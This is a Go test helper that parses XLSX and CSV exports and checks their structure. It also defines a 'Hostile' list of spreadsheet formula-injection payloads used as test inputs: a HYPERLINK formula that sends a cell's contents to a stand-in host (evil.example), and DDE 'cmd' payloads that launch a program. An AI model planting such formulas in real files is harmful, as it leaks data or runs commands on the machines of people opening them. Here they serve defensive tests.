// Package sheettest reads back, in tests, the files package sheet writes,
// checking their form on the way: every part of a workbook there and well
// formed, a CSV's byte-order mark.
package sheettest

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"io"
	"strings"
	"testing"

	"github.com/unionhub/unionhub/sheet"
)

// Hostile are cells a spreadsheet would run as formulas: tests put them
// wherever text from people or files lands in a file.
var Hostile = []string{
	`=HYPERLINK("http://evil.example/?d="&A1,"Подробнее")`,
	"+1+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+9)*cmd|' /C calc'!A0",
	"\t=1+1",
	"\r=1+1",
}

// xlsxSheetXML is the parsed worksheet of a workbook sheet.WriteXLSX wrote.
type xlsxSheetXML struct {
	Rows []struct {
		R     string `xml:"r,attr"`
		Cells []struct {
			R    string `xml:"r,attr"`
			T    string `xml:"t,attr"`
			S    string `xml:"s,attr"`
			Text struct {
				Space string `xml:"http://www.w3.org/XML/1998/namespace space,attr"`
				Value string `xml:",chardata"`
			} `xml:"is>t"`
		} `xml:"c"`
	} `xml:"sheetData>row"`
}

// ReadXLSX opens a workbook, checks that every part is there and well
// formed, that every cell is an inline string and only the header bold,
// and returns its cells row by row.
func ReadXLSX(t testing.TB, data []byte) [][]string {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatalf("open xlsx: %v", err)
	}
	parts := map[string][]byte{}
	for _, f := range zr.File {
		rc, err := f.Open()
		if err != nil {
			t.Fatalf("open %s: %v", f.Name, err)
		}
		b, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			t.Fatalf("read %s: %v", f.Name, err)
		}
		parts[f.Name] = b
	}
	for _, name := range []string{"[Content_Types].xml", "_rels/.rels", "xl/workbook.xml",
		"xl/_rels/workbook.xml.rels", "xl/styles.xml", "xl/worksheets/sheet1.xml"} {
		b, ok := parts[name]
		if !ok {
			t.Fatalf("xlsx lacks %s; has %v", name, keys(parts))
		}
		if !bytes.HasPrefix(b, []byte(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>`)) {
			t.Errorf("%s has no XML declaration", name)
		}
		d := xml.NewDecoder(bytes.NewReader(b))
		for {
			if _, err := d.Token(); err == io.EOF {
				break
			} else if err != nil {
				t.Fatalf("%s is not well formed: %v\n%s", name, err, b)
			}
		}
	}
	if len(parts) != 6 {
		t.Errorf("xlsx parts %v, want 6", keys(parts))
	}
	ct := string(parts["[Content_Types].xml"])
	for _, want := range []string{`PartName="/xl/workbook.xml"`, `PartName="/xl/worksheets/sheet1.xml"`, `PartName="/xl/styles.xml"`,
		`Extension="rels"`, "spreadsheetml.sheet.main+xml"} {
		if !strings.Contains(ct, want) {
			t.Errorf("[Content_Types].xml lacks %s", want)
		}
	}
	var wb struct {
		Sheets []struct {
			Name string `xml:"name,attr"`
			ID   string `xml:"http://schemas.openxmlformats.org/officeDocument/2006/relationships id,attr"`
		} `xml:"sheets>sheet"`
	}
	if err := xml.Unmarshal(parts["xl/workbook.xml"], &wb); err != nil || len(wb.Sheets) != 1 || wb.Sheets[0].ID != "rId1" {
		t.Fatalf("workbook %+v (%v)", wb, err)
	}
	var rels struct {
		Rels []struct {
			ID     string `xml:"Id,attr"`
			Target string `xml:"Target,attr"`
		} `xml:"Relationship"`
	}
	if err := xml.Unmarshal(parts["xl/_rels/workbook.xml.rels"], &rels); err != nil {
		t.Fatal(err)
	}
	targets := map[string]string{}
	for _, r := range rels.Rels {
		targets[r.ID] = r.Target
	}
	if targets["rId1"] != "worksheets/sheet1.xml" || targets["rId2"] != "styles.xml" {
		t.Errorf("workbook relationships %+v", rels)
	}
	var styles struct {
		Fonts []struct {
			Bold *struct{} `xml:"b"`
		} `xml:"fonts>font"`
		Xfs []struct {
			FontID string `xml:"fontId,attr"`
		} `xml:"cellXfs>xf"`
	}
	if err := xml.Unmarshal(parts["xl/styles.xml"], &styles); err != nil || len(styles.Xfs) != 2 || len(styles.Fonts) != 2 ||
		styles.Xfs[1].FontID != "1" || styles.Fonts[1].Bold == nil {
		t.Errorf("styles %+v (%v): want style 1 bold", styles, err)
	}

	var ws xlsxSheetXML
	if err := xml.Unmarshal(parts["xl/worksheets/sheet1.xml"], &ws); err != nil {
		t.Fatalf("sheet: %v", err)
	}
	var out [][]string
	for i, row := range ws.Rows {
		var cells []string
		for j, c := range row.Cells {
			if want := sheet.ColumnName(j) + row.R; c.R != want || c.T != "inlineStr" || c.Text.Space != "preserve" {
				t.Errorf("cell %s: t=%q space=%q, want %s inline, space preserved", c.R, c.T, c.Text.Space, want)
			}
			if (i == 0) != (c.S == "1") {
				t.Errorf("cell %s has style %q; only the header is bold", c.R, c.S)
			}
			cells = append(cells, c.Text.Value)
		}
		out = append(out, cells)
	}
	return out
}

func keys(m map[string][]byte) []string {
	var k []string
	for name := range m {
		k = append(k, name)
	}
	return k
}

// ReadExcelCSV parses a CSV written for people (sheet.WriteExcelCSV),
// which must start with a UTF-8 byte-order mark.
func ReadExcelCSV(t testing.TB, out string) [][]string {
	t.Helper()
	body, ok := strings.CutPrefix(out, "\ufeff")
	if !ok {
		t.Fatalf("CSV does not start with a UTF-8 byte-order mark: %q", out[:min(len(out), 20)])
	}
	cr := csv.NewReader(strings.NewReader(body))
	cr.FieldsPerRecord = -1
	recs, err := cr.ReadAll()
	if err != nil {
		t.Fatalf("parse CSV: %v\n%s", err, out)
	}
	return recs
}
